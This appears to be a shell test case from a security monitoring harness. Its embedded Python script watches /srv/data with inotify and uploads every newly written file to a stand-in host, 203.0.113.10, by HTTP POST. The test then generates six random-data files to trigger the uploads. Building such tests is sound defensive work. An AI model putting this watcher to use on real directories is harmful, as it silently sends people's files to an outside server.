#!/bin/sh
. /opt/case/case.sh

python3 -c '
import ctypes, os, urllib.request
libc = ctypes.CDLL(None)
fd = libc.inotify_init(); libc.inotify_add_watch(fd, b"/srv/data", 8)
open("/tmp/.ready", "w").close()
n = 0
while n < 6:
    b = os.read(fd, 4096)
    while b:
        size = int.from_bytes(b[12:16], "little"); name = b[16:16 + size].rstrip(b"\0").decode(); b = b[16 + size:]
        urllib.request.urlopen("http://203.0.113.10/up/" + name, data=open("/srv/data/" + name, "rb").read()); n += 1' & watcher=$!
wait_for /tmp/.ready
for i in 1 2 3 4 5 6; do head -c 20000 /dev/urandom >/srv/data/report-$i; sleep 0.2; done
wait $watcher
took_place
